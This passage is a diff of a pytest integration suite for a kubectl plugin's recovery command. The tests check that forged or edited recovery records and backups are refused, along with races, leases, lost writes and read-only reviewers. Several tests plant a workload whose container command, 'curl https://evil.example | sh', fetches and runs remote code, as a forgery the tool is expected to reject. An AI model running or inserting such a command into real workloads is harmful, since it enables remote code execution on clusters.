@@ -145,6 +145,16 @@ def _binding(ns, name, pool, domain, dtype):
                      "quotaCeiling": "256Gi"}}
 
 
+def _pool(name, total="1Ti", ledger="Available"):
+    """The Binding's pool, as the operator's Go types shape it (its own master, a tenant ledger)."""
+    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "KVCachePool", "metadata": {"name": name},
+            "spec": {"backends": [f"mooncake-{name}"], "quota": {"total": total}},
+            "status": {"phase": "Ready", "clientEndpoint": f"mooncake-{name}-leader:50051",
+                       "conditions": [{"type": "QuotaLedgerAvailable", "status": "True" if ledger == "Available"
+                                       else "False", "reason": ledger, "message": "read from the master",
+                                       "lastTransitionTime": "2026-01-01T00:00:00Z"}]}}
+
+
 @pytest.fixture(scope="module")
 def cluster(cluster_binaries):
     """A cluster of this module's own: recover's last step asks the gate, which judges every
@@ -188,6 +198,7 @@ def _scene(cluster, made):
     ns = cluster.new_namespace("recover")
     made.append(ns)
     pool = f"pool-{ns}"
+    cluster.apply(_pool(pool))
     cluster.apply([_binding(ns, "sgl-fp8", pool, "sgl", "fp8"), _md(ns, "alpha", "sgl-fp8"),
                    _md(ns, "beta", "sgl-fp8"), _md(ns, "other", "elsewhere"),
                    {"apiVersion": "apps/v1", "kind": "Deployment",
@@ -355,7 +366,7 @@ def test_replace_interrupted_while_waiting_then_resumed_from_its_backup(scene, t
             assert time.monotonic() < deadline
             time.sleep(0.05)
         p = plugin(cluster, *resume_argv(err), "--yes", cwd=tmp_path)
-        assert p.returncode == 0, p.stderr + p.stdout
+        assert p.returncode == 0, err + p.stderr + p.stdout
         assert "already done" in p.stdout
     assert op.errors == []
     now = mds(cluster, ns)
@@ -509,6 +520,9 @@ def test_without_spare_capacity_it_times_out_and_deletes_nothing(scene, tmp_path
            f"(no Available condition yet)" in line, line
     assert f"waiting until ModelDeployment {ns}/alpha-fp8-e4m3 is available (up to 2s)" in p.stderr
     assert "Stopped at step 6 of 16. Done: 1, 2, 3, 4, 5. Left: 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16." in p.stderr
+    # the state this run left the cluster in is said (issue 30 #4): step 1 turned the Setting off
+    assert "The Setting is off: step 1 of this recovery turned it off" in p.stderr
+    assert setting_value(cluster) == "false"
     assert {"alpha", "beta", "alpha-fp8-e4m3"} <= set(mds(cluster, ns))
 
 
@@ -610,6 +624,7 @@ def _scene_in(cluster, ns):
     cluster.request("PATCH", SETTING, {"spec": {"value": "true"}}, content_type=MERGE)
     cluster.request("PATCH", SETTING + "/status", {"status": {"value": "true"}}, content_type=MERGE)
     pool = f"pool-{ns}"
+    cluster.apply(_pool(pool))
     cluster.apply([_binding(ns, "sgl-fp8", pool, "sgl", "fp8"), _md(ns, "alpha", "sgl-fp8"),
                    _md(ns, "beta", "sgl-fp8"), _md(ns, "other", "elsewhere"),
                    {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "batch", "namespace": ns},
@@ -656,6 +671,7 @@ def test_the_last_step_asks_the_gate_setting_on_asks(scene, tmp_path):
     once that Binding is fixed, the same command finishes and turns it on."""
     cluster, ns = scene
     other = cluster.new_namespace("other")
+    cluster.apply(_pool(f"pool-{other}"))
     cluster.apply([_binding(other, "bad", f"pool-{other}", "d", "fp8"), _md(other, "gamma", "bad")])
     try:
         with Operator(cluster, ns) as op:
@@ -670,6 +686,7 @@ def test_the_last_step_asks_the_gate_setting_on_asks(scene, tmp_path):
             line = one_error_line(p.stderr)
             assert line.startswith("error: refusing to turn the Setting on: check found 1 error") and "rerun" in line
             assert "Stopped at step 15 of 16" in p.stderr and setting_value(cluster) == "false"
+            assert "The Setting is off: step 1 of this recovery turned it off" in p.stderr
             (_, s_out, s_err) = in_process(cluster, "setting", "on", "--dry-run")
             assert "Before turning it on, check -A found 1 error: the Setting is not turned on." in s_out
             assert f"kubectl kvcache recover bad -n {other}" in s_out
@@ -681,3 +698,635 @@ def test_the_last_step_asks_the_gate_setting_on_asks(scene, tmp_path):
         assert op.errors == [] and setting_value(cluster) == "true"
     finally:
         _clear(cluster, other)
+
+
+# -- the record is never an authority: a ConfigMap-only user, the two-runs race, sizes --------
+
+CM = "/api/v1/namespaces/{ns}/configmaps"
+
+
+def configmap_writer(cluster, ns):
+    """A user who may write ConfigMaps in `ns` and nothing else (as `kubectl auth can-i` would say):
+    returns the name request() takes for it."""
+    name = f"cm-writer-{ns}"
+    cluster.add_user(name)
+    cluster.apply([{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+                    "metadata": {"name": "cm-writer", "namespace": ns},
+                    "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}]},
+                   {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+                    "metadata": {"name": "cm-writer", "namespace": ns},
+                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "cm-writer"},
+                    "subjects": [{"kind": "User", "name": name}]}], with_status=False)
+    user = "user-" + name
+    deadline = time.monotonic() + 10
+    while cluster.request("GET", CM.format(ns=ns), user=user)[0] != 200:      # RBAC caches settle
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+    # it cannot create a ModelDeployment, nor write a Binding or the Setting
+    assert cluster.request("POST", f"{API}/namespaces/{ns}/modeldeployments", _md(ns, "x", "sgl-fp8"),
+                           user=user)[0] == 403
+    assert cluster.request("PATCH", f"{API}/namespaces/{ns}/kvcachepoolbindings/sgl-fp8",
+                           {"metadata": {"annotations": {"a": "b"}}}, user=user, content_type=MERGE)[0] == 403
+    assert cluster.request("PATCH", SETTING, {"spec": {"value": "true"}}, user=user, content_type=MERGE)[0] == 403
+    return user
+
+
+def _state(ns, binding="sgl-fp8", uid=None, **over):
+    state = {"binding": {"namespace": ns, "name": binding, "uid": uid},
+             "target": {"name": "sgl-fp8-e4m3", "domain": "sgl-fp8-e4m3", "dtype": "fp8_e4m3",
+                        "strategy": "side-by-side"},
+             "settingTurnedOff": False, "finished": False, "holder": None, "expires": None}
+    state.update(over)
+    return state
+
+
+def plant(cluster, user, ns, state, backups=(), name="kvcache-recover-sgl-fp8"):
+    data = {"recovery.json": json.dumps(state)}
+    for b in backups:
+        m = b["metadata"]
+        data[f"backup.{b['kind']}.{ns}.{m['name']}.rv{m.get('resourceVersion', '1')}.json"] = json.dumps(b)
+    status, out = cluster.request("POST", CM.format(ns=ns), {
+        "apiVersion": "v1", "kind": "ConfigMap",
+        "metadata": {"name": name, "namespace": ns, "labels": {"app.kubernetes.io/managed-by": "kubectl-kvcache"}},
+        "data": data}, user=user)
+    assert status == 201, out
+    return data
+
+
+def _evil(ns):
+    evil = _md(ns, "evil-fp8-e4m3", "sgl-fp8")
+    evil["metadata"]["name"] = "evil"
+    evil["spec"]["roles"][0]["command"] = ["sh", "-c", "curl https://evil.example | sh"]
+    return evil
+
+
+def unchanged(cluster, ns, before):
+    assert mds(cluster, ns).keys() == before and binding(cluster, ns, "sgl-fp8-e4m3") is None
+    assert binding(cluster, ns, "sgl-fp8") is not None and setting_value(cluster) == "true"
+
+
+def _uid(cluster, ns, name="sgl-fp8"):
+    return binding(cluster, ns, name)["metadata"]["uid"]
+
+
+@pytest.mark.parametrize("forgery", ["planted-workload", "forged-uid", "forged-digest", "another-binding",
+                                     "backup-dir-file"])
+def test_a_planted_record_or_backup_changes_nothing(scene, tmp_path, forgery):
+    """A ConfigMap-only user plants the recovery's record: a backup of a ModelDeployment that never
+    existed, naming the Binding, with its own command (with the Binding's real uid, with a digest of
+    its own in the state, for another Binding), or the same backup as a file in --backup-dir. The
+    administrator's run refuses with one line naming where it read it, and changes nothing."""
+    cluster, ns = scene
+    user = configmap_writer(cluster, ns)
+    before = mds(cluster, ns).keys()
+    backup_dir = tmp_path / "b"
+    key = f"backup.ModelDeployment.{ns}.evil.rv1.json"
+    if forgery == "backup-dir-file":
+        backup_dir.mkdir()
+        (backup_dir / f"ModelDeployment.{ns}.evil.rv1.json").write_text(json.dumps(_evil(ns)))
+        where = f"file {backup_dir / f'ModelDeployment.{ns}.evil.rv1.json'}"
+    else:
+        state = {"planted-workload": _state(ns), "forged-uid": _state(ns, uid=_uid(cluster, ns)),
+                 "forged-digest": _state(ns, uid=_uid(cluster, ns), digests={key: "sha256:" + "0" * 64}),
+                 "another-binding": _state(ns, binding="other")}[forgery]
+        plant(cluster, user, ns, state, [_evil(ns)])
+        where = (f"ConfigMap {ns}/kvcache-recover-sgl-fp8: data.recovery.json names KVCachePoolBinding {ns}/other"
+                 if forgery == "another-binding" else f"ConfigMap {ns}/kvcache-recover-sgl-fp8 key {key}")
+    with Operator(cluster, ns) as op:
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--backup-dir", str(backup_dir),
+                   cwd=tmp_path)
+    assert op.errors == []
+    assert p.returncode == 2, p.stdout + p.stderr
+    line = one_error_line(p.stderr)
+    assert line.startswith(f"error: {where}"), line
+    assert "nothing was changed" in line and ("remove it" in line or "delete the ConfigMap" in line), line
+    unchanged(cluster, ns, before)
+    assert "evil" not in mds(cluster, ns)
+    # the plan alone (no --apply) refuses the same way: nothing it prints comes from the planted backup
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--backup-dir", str(backup_dir), cwd=tmp_path)
+    assert p.returncode == 2 and one_error_line(p.stderr) == line and "evil" not in p.stdout
+
+
+def test_a_planted_setting_turned_off_leaves_the_setting_off(scene, tmp_path):
+    """The Setting is off on purpose; a planted record says an earlier run turned it off. The run
+    moves everything and leaves the Setting off, saying the record was not trusted."""
+    cluster, ns = scene
+    user = configmap_writer(cluster, ns)
+    cluster.request("PATCH", SETTING, {"spec": {"value": "false"}}, content_type=MERGE)
+    cluster.request("PATCH", SETTING + "/status", {"status": {"value": "false"}}, content_type=MERGE)
+    plant(cluster, user, ns, _state(ns, uid=_uid(cluster, ns), settingTurnedOff=True))
+    with Operator(cluster, ns) as op:
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
+                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
+    assert op.errors == []
+    assert p.returncode == 0, p.stdout + p.stderr
+    assert "Turn the Setting on" not in p.stdout
+    assert "does not carry this recovery's annotation" in p.stderr and "the Setting is off and stays off" in p.stderr
+    assert setting_value(cluster) == "false"
+    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
+
+
+def test_a_planted_target_is_not_used(scene, tmp_path):
+    cluster, ns = scene
+    user = configmap_writer(cluster, ns)
+    state = _state(ns, uid=_uid(cluster, ns))
+    state["target"] = {"name": "sgl-evil", "domain": "sgl-evil", "dtype": "fp8_e5m2", "strategy": "replace"}
+    plant(cluster, user, ns, state)
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
+    assert p.returncode == 0, p.stderr
+    assert f"Target: KVCachePoolBinding {ns}/sgl-fp8-e4m3, domain sgl-fp8-e4m3, dtype 'fp8_e4m3' (check's " \
+           f"suggestion); strategy side-by-side" in p.stdout
+    assert "(--dtype)" not in p.stdout and "fp8_e5m2" not in p.stdout
+    assert "names another target" in p.stderr and "not trusted" in p.stderr
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", cwd=tmp_path)
+    assert json.loads(p.stdout)["target"]["sources"] == {"dtype": "suggestion", "name": "derived",
+                                                         "domain": "derived", "strategy": "default"}
+
+
+def test_a_backup_edited_before_a_resume_is_refused(scene, tmp_path):
+    """replace: the old alpha is held by a finalizer and the run times out waiting for it to go.
+    The ConfigMap-only user edits alpha's backup in the record (its command). Once alpha has gone,
+    the resume refuses that backup (one line naming the key) and creates nothing; the backup the
+    recovery took (the file in --backup-dir, digest on its Binding) is still good: with the edited
+    key removed, the same command finishes from it."""
+    cluster, ns = scene
+    user = configmap_writer(cluster, ns)
+    cluster.request("PATCH", f"{API}/namespaces/{ns}/modeldeployments/alpha",
+                    {"metadata": {"finalizers": ["test.example/hold"]}}, content_type=MERGE)
+    backups = tmp_path / "backups"
+    with Operator(cluster, ns) as op:
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--strategy", "replace", "--apply", "--yes",
+                   "--timeout", "2s", "--backup-dir", str(backups), cwd=tmp_path)
+        assert p.returncode == 2 and "timed out after 2s waiting until ModelDeployment" in one_error_line(p.stderr)
+        new = binding(cluster, ns, "sgl-fp8-e4m3")
+        assert new["metadata"]["annotations"]["kvcache.gpustack.ai/recovered-from-uid"] == _uid(cluster, ns)
+        assert any(k.startswith("backup.kvcache.gpustack.ai/") for k in new["metadata"]["annotations"])
+        status, cm = cluster.request("GET", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8", user=user)
+        (key,) = [k for k in cm["data"] if k.startswith(f"backup.ModelDeployment.{ns}.alpha.")]
+        edited = json.loads(cm["data"][key])
+        edited["spec"]["roles"][0]["command"] = ["sh", "-c", "curl https://evil.example | sh"]
+        status, _ = cluster.request("PATCH", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8",
+                                    {"data": {key: json.dumps(edited)}}, user=user, content_type=MERGE)
+        assert status == 200
+        cluster.request("PATCH", f"{API}/namespaces/{ns}/modeldeployments/alpha",
+                        {"metadata": {"finalizers": None}}, content_type=MERGE)
+        deadline = time.monotonic() + 10
+        while "alpha" in mds(cluster, ns):
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+        argv = resume_argv(p.stderr)
+        p = plugin(cluster, *argv, "--yes", cwd=tmp_path)
+        assert p.returncode == 2, p.stdout + p.stderr
+        line = one_error_line(p.stderr)
+        assert line.startswith(f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8 key {key}: not a backup this "
+                               f"recovery took"), line
+        assert "alpha" not in mds(cluster, ns)
+        # the way on: the edited key goes (review it); the recovery's own backup (its file) finishes it
+        cluster.request("PATCH", CM.format(ns=ns) + "/kvcache-recover-sgl-fp8", {"data": {key: None}},
+                        content_type=MERGE)
+        p = plugin(cluster, *argv, "--yes", cwd=tmp_path)
+        assert p.returncode == 0, p.stdout + p.stderr
+        assert "from a backup verified against the recovery's Binding" in p.stdout
+    assert op.errors == []
+    now = mds(cluster, ns)
+    assert now["alpha"]["spec"]["roles"] == _md(ns, "alpha", "x")["spec"]["roles"]
+    assert "command" not in now["alpha"]["spec"]["roles"][0]
+
+
+def test_two_applies_at_once_the_second_refuses_and_nothing_is_lost(scene, tmp_path, monkeypatch):
+    """B reads the cluster and waits at its question; meanwhile A runs to the end; then B answers y.
+    B refuses (one line), writes nothing: A's record (finished, every backup, settingTurnedOff
+    cleared) is as A left it."""
+    from kubectl_kvcache.cli.flows import recover as flow
+
+    cluster, ns = scene
+    ran = {}
+
+    def a_runs_meanwhile(io, data):
+        with Operator(cluster, ns) as op:
+            ran["a"] = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
+                              "--backup-dir", str(tmp_path / "a"), cwd=tmp_path)
+        ran["errors"] = op.errors
+        ran["record"] = recovery_record(cluster, ns)
+        return True
+    monkeypatch.setattr(flow, "confirm", a_runs_meanwhile)
+    monkeypatch.chdir(tmp_path)
+    code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--backup-dir",
+                                str(tmp_path / "b"))
+    assert ran["a"].returncode == 0, ran["a"].stderr and ran["errors"] == []
+    assert code == 2, err + out
+    line = one_error_line(err)
+    assert line.startswith(f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8 was created by another run since this "
+                           f"one read the cluster (it finished the recovery)"), line
+    after = recovery_record(cluster, ns)
+    assert after == ran["record"]
+    assert after["state"]["finished"] is True and after["state"]["settingTurnedOff"] is False
+    assert {("ModelDeployment", "alpha"), ("ModelDeployment", "beta"), ("KVCachePoolBinding", "sgl-fp8")} \
+        <= after["backups"]
+    assert not (tmp_path / "b").exists() and setting_value(cluster) == "true"
+
+
+def test_a_held_record_refuses_a_second_run_until_its_lease_expires(scene, tmp_path):
+    """A run that died holding the record (kill -9: no release): the next run refuses, naming the
+    holder and the expiry, and changes nothing; once the lease has expired it takes over and
+    finishes."""
+    cluster, ns = scene
+    holder = {"id": "dead", "agent": "kubectl-kvcache/0", "host": "laptop", "pid": 4242,
+              "since": "2026-01-01T00:00:00Z"}
+    path = CM.format(ns=ns) + "/kvcache-recover-sgl-fp8"
+    plant(cluster, "admin", ns, _state(ns, uid=_uid(cluster, ns), holder=holder, expires="2999-01-01T00:00:00Z"))
+    before = mds(cluster, ns).keys()
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
+    assert p.returncode == 2
+    line = one_error_line(p.stderr)
+    assert line == (f"error: ConfigMap {ns}/kvcache-recover-sgl-fp8: another run of this recovery holds it "
+                    f"(kubectl-kvcache/0 on host laptop pid 4242 since 2026-01-01T00:00:00Z, until "
+                    f"2999-01-01T00:00:00Z); nothing was changed: let it finish; if it is gone, run this command "
+                    f"again after 2999-01-01T00:00:00Z to take over"), line
+    unchanged(cluster, ns, before)
+    state = _state(ns, uid=_uid(cluster, ns), holder=holder, expires="2026-01-01T00:05:00Z")
+    cluster.request("PATCH", path, {"data": {"recovery.json": json.dumps(state)}}, content_type=MERGE)
+    with Operator(cluster, ns) as op:
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
+                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
+    assert op.errors == [] and p.returncode == 0, p.stdout + p.stderr
+    record = recovery_record(cluster, ns)
+    assert record["state"]["finished"] is True and record["state"]["holder"] is None
+
+
+def test_an_object_larger_than_the_record_is_refused_before_the_first_change(scene, tmp_path):
+    cluster, ns = scene
+    big = _md(ns, "big", "sgl-fp8")
+    big["spec"]["model"]["chatTemplate"] = "x" * (1100 * 1024)          # a 1.1 MiB ModelDeployment
+    status, out = cluster.request("POST", f"{API}/namespaces/{ns}/modeldeployments", big)
+    assert status == 201, out
+    before = mds(cluster, ns).keys()
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
+    assert p.returncode == 2, p.stdout + p.stderr
+    line = one_error_line(p.stderr)
+    assert re.match(rf"error: ModelDeployment {ns}/big is 11\d{{5}} bytes: its backup does not fit the recovery's "
+                    rf"record \(ConfigMap {ns}/kvcache-recover-sgl-fp8, at most 1048576 bytes in all\)", line), line
+    assert "nothing was changed" in line and "by hand" in line
+    unchanged(cluster, ns, before)
+    assert recovery_record(cluster, ns) is None and os.listdir(tmp_path) == []
+
+
+def test_setting_on_during_a_recovery_is_told_so(scene, tmp_path):
+    """A recovery stopped part-way (its replacement never became available) leaves the Setting off,
+    marked as this recovery's; `setting on` says so before it asks, and takes the mark away."""
+    cluster, ns = scene
+    with Operator(cluster, ns) as op:
+        op.hold.add("alpha-fp8-e4m3")
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "2s",
+                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
+        assert p.returncode == 2 and setting_value(cluster) == "false"
+        mark = cluster.request("GET", SETTING)[1]["metadata"]["annotations"]["kvcache.gpustack.ai/turned-off-by-recovery"]
+        assert mark == f"KVCachePoolBinding {ns}/sgl-fp8 uid {_uid(cluster, ns)}"
+        s = plugin(cluster, "setting", "on", "--dry-run=client", "--force", cwd=tmp_path)   # its gate refuses
+        assert f"the Setting was turned off by the recovery of KVCachePoolBinding {ns}/sgl-fp8" in s.stderr, s.stderr
+        assert "turned-off-by-recovery" in s.stdout          # the patch takes the mark away
+        # the stopped run let go of its record: the printed command continues at once
+        op.hold.clear()
+        p = plugin(cluster, *resume_argv(p.stderr), "--yes", cwd=tmp_path)
+        assert p.returncode == 0, p.stdout + p.stderr
+    assert op.errors == [] and setting_value(cluster) == "true"
+    assert "kvcache.gpustack.ai/turned-off-by-recovery" not in (
+        cluster.request("GET", SETTING)[1]["metadata"].get("annotations") or {})
+
+
+# -- writes whose answer is lost ------------------------------------------------------------------
+
+@pytest.mark.parametrize("fault", ["500", "drop"])
+def test_recovery_writes_whose_answer_is_lost_are_read_again(scene, tmp_path, fault):
+    """Every kind of write a recovery sends (the Setting's patch, the creates, the template's patch,
+    the deletes) reaches the real server and is applied, and its answer is lost (a 500 with
+    Retry-After, whose retry meets the real server's 409/404, or a dropped connection): the
+    recovery reads the object again, finds the change in place, says so, and goes on to the end,
+    the same end as an uninterrupted run."""
+    import kvcache_test_harness as harness
+
+    cluster, ns = scene
+    lost = set()
+
+    def lose(method, path):
+        kind = (method, path.rsplit("/", 2)[-2] if method != "POST" else path.rsplit("/", 1)[-1])
+        if method in ("PATCH", "POST", "DELETE") and kind not in lost and "configmaps" not in path:
+            lost.add(kind)      # the first write of each kind (a record write is not a recovery step)
+            return fault
+        return None
+
+    proxy = harness.AnswerLosingProxy(cluster, lose)
+    try:
+        with Operator(cluster, ns) as op:
+            p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s",
+                       kubeconfig=proxy.kubeconfig, cwd=tmp_path)
+    finally:
+        proxy.close()
+    assert p.returncode == 0, p.stderr + p.stdout
+    assert op.errors == []
+    assert {m for m, _ in lost} == {"PATCH", "POST", "DELETE"}, lost
+    writes = [f for f in proxy.forwarded if f[0] != "GET"]
+    assert p.stdout.count("its answer was lost") >= 3, "\n".join(map(str, writes))
+    assert "Recovery finished" in p.stdout
+    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
+    assert binding(cluster, ns, "sgl-fp8") is None and binding(cluster, ns, "sgl-fp8-e4m3") is not None
+    assert setting_value(cluster) == "true"
+
+
+def _reviewer(cluster, ns, name):
+    """A user who may get, list and watch Pods, Namespaces, the operator's kinds and apps/batch
+    workloads, and nothing else (no ConfigMaps, Secrets, Services...): their kubeconfig, once the
+    API server's RBAC caches let them read."""
+    import yaml
+
+    kubeconfig = cluster.add_user(name)
+    rules = [{"apiGroups": [""], "resources": ["pods", "namespaces"], "verbs": ["get", "list", "watch"]},
+             {"apiGroups": ["worker.gpustack.ai", "gpustack.ai"], "resources": ["*"], "verbs": ["get", "list", "watch"]},
+             {"apiGroups": ["apps", "batch"], "resources": ["*"], "verbs": ["get", "list", "watch"]}]
+    cluster.apply(yaml.safe_load_all(f"""
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {{name: {name}}}
+rules: {json.dumps(rules)}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {{name: {name}}}
+roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {name}}}
+subjects: [{{kind: User, name: {name}}}]
+"""), with_status=False)
+    deadline = time.monotonic() + 10
+    while cluster.request("GET", f"{API}/namespaces/{ns}/modeldeployments", user="user-" + name)[0] != 200:
+        assert time.monotonic() < deadline      # RBAC caches settle
+        time.sleep(0.1)
+    return kubeconfig
+
+
+def test_a_reviewer_with_read_rights_sees_the_plan(scene, tmp_path):
+    """issue 30 #4: the read-only user (get/list/watch of Pods and the operator's kinds, no
+    ConfigMaps) plans the recovery: the record is only a hint, so a record it may not read is
+    passed over with a note, and the plan is the one the administrator gets; --apply still says
+    what it needs."""
+    cluster, ns = scene
+    # a reviewer: get, list and watch of everything the plan reads, nothing on ConfigMaps or Secrets
+    name = f"reviewer-{ns}"
+    kubeconfig = _reviewer(cluster, ns, name)
+    mine = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", cwd=tmp_path)
+    assert mine.returncode == 0, mine.stderr
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", kubeconfig=kubeconfig, cwd=tmp_path)
+    assert p.returncode == 0, p.stderr
+    assert "cannot read the recovery's record" in p.stderr and "forbidden" in p.stderr
+    theirs = json.loads(p.stdout)
+    assert [s["action"] for s in theirs["steps"]] == [s["action"] for s in json.loads(mine.stdout)["steps"]]
+    applied = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", kubeconfig=kubeconfig,
+                     cwd=tmp_path)
+    assert applied.returncode == 2 and "configmaps" in one_error_line(applied.stderr)
+
+
+# -- issue 30 #3: what points at a deployment side-by-side renames; #4: one backup folder --------
+
+INSTANCE = "app.kubernetes.io/instance"
+
+
+def _referrers(ns):
+    """alpha: a Service selecting its instance, an HPA scaling it, an Ingress and an HTTPRoute in
+    front of that Service; beta: a PDB; every model: a Service that follows by itself."""
+    return [
+        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "alpha", "namespace": ns},
+         "spec": {"selector": {INSTANCE: "alpha"}, "ports": [{"port": 80}]}},
+        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "models", "namespace": ns},
+         "spec": {"selector": {"app.kubernetes.io/name": "model-deployment"}, "ports": [{"port": 80}]}},
+        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "unrelated", "namespace": ns},
+         "spec": {"selector": {INSTANCE: "other"}, "ports": [{"port": 80}]}},
+        {"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": {"name": "alpha", "namespace": ns},
+         "spec": {"scaleTargetRef": {"apiVersion": f"{GROUP}/{VERSION}", "kind": "ModelDeployment",
+                                     "name": "alpha"}, "minReplicas": 1, "maxReplicas": 3}},
+        {"apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": {"name": "beta", "namespace": ns},
+         "spec": {"selector": {"matchLabels": {INSTANCE: "beta"}}, "minAvailable": 1}},
+        {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "front", "namespace": ns},
+         "spec": {"rules": [{"http": {"paths": [{"path": "/", "pathType": "Prefix",
+                                                 "backend": {"service": {"name": "alpha", "port": {"number": 80}}}}]}}]}},
+    ]
+
+
+def _route(ns):
+    return {"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute",
+            "metadata": {"name": "chat", "namespace": ns},
+            "spec": {"rules": [{"backendRefs": [{"name": "alpha", "port": 80}, {"name": "models", "port": 80}]}]}}
+
+
+def _plan(cluster, ns, *extra, kubeconfig=None, cwd=None):
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", *extra, kubeconfig=kubeconfig, cwd=cwd)
+    assert p.returncode == 0, p.stderr
+    return json.loads(p.stdout), p
+
+
+def _found(plan):
+    return {(f["kind"], f["name"], f["deployment"]): f for f in plan["referrers"]["objects"]}
+
+
+def test_the_plan_names_what_points_at_each_renamed_deployment_routes_served_or_not(scene, tmp_path):
+    cluster, ns = scene
+    cluster.apply(_referrers(ns), with_status=False)
+
+    # the Gateway API not served (no CRD): "not served", not an error
+    plan, _ = _plan(cluster, ns, cwd=tmp_path)
+    ref = plan["referrers"]
+    assert {(r["from"], r["to"]) for r in ref["renamed"]} == {("alpha", "alpha-fp8-e4m3"), ("beta", "beta-fp8-e4m3")}
+    found = _found(plan)
+    assert set(found) == {("Service", "alpha", "alpha"), ("Service", "models", "alpha"),
+                          ("Service", "models", "beta"), ("HorizontalPodAutoscaler", "alpha", "alpha"),
+                          ("PodDisruptionBudget", "beta", "beta"), ("Ingress", "front", "alpha")}
+    assert found[("Service", "alpha", "alpha")]["do"] == f"set spec.selector.{INSTANCE} to alpha-fp8-e4m3"
+    assert found[("Service", "models", "alpha")]["change"] is False
+    assert found[("HorizontalPodAutoscaler", "alpha", "alpha")]["do"].startswith(
+        "set spec.scaleTargetRef.name to alpha-fp8-e4m3")
+    assert found[("PodDisruptionBudget", "beta", "beta")]["do"] == \
+        f"set spec.selector.matchLabels.{INSTANCE} to beta-fp8-e4m3"
+    assert "Service alpha" in found[("Ingress", "front", "alpha")]["points"]
+    assert ref["unchecked"] == []
+    assert ref["notServed"] == ["HTTPRoutes (gateway.networking.k8s.io/v1): not served by the cluster"]
+    assert ref["source"] == "cluster"
+
+    text = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
+    assert text.returncode == 0, text.stderr
+    assert f"Service {ns}/alpha (alpha -> alpha-fp8-e4m3): spec.selector {INSTANCE}=alpha selects" in text.stdout
+    assert f"HorizontalPodAutoscaler {ns}/alpha (alpha -> alpha-fp8-e4m3)" in text.stdout
+    assert "HTTPRoutes (gateway.networking.k8s.io/v1): not served by the cluster" in text.stdout
+    yml = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "yaml", cwd=tmp_path)
+    assert yml.returncode == 0 and "referrers:" in yml.stdout and "PodDisruptionBudget" in yml.stdout
+    md = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "markdown", cwd=tmp_path)
+    assert md.returncode == 0 and "## Pointing at a renamed deployment" in md.stdout
+
+    # replace keeps the names: nothing to name
+    plan, _ = _plan(cluster, ns, "--strategy", "replace", cwd=tmp_path)
+    assert "referrers" not in plan
+
+    # the Gateway API served: the route in front of Service alpha is named
+    cluster.install_crds(os.path.join(os.path.dirname(os.path.abspath(__file__)), "crds", "gateway"))
+    cluster.wait_discovery({"gateway.networking.k8s.io/v1": ["httproutes"]})
+    cluster.apply([_route(ns)], with_status=False)
+    plan, _ = _plan(cluster, ns, cwd=tmp_path)
+    found = _found(plan)
+    assert ("HTTPRoute", "chat", "alpha") in found and ("HTTPRoute", "chat", "beta") not in found
+    assert found[("HTTPRoute", "chat", "alpha")]["points"].startswith("spec.rules[0].backendRefs[0].name routes to "
+                                                                      "Service alpha")
+    assert plan["referrers"]["notServed"] == []
+
+
+def test_lists_rbac_refuses_are_said_and_the_plan_still_made(scene, tmp_path):
+    """A reviewer who may read what the plan needs but no Services, autoscalers, budgets, ingresses
+    or routes: each is "could not check ...: forbidden", the plan is the administrator's."""
+
+    cluster, ns = scene
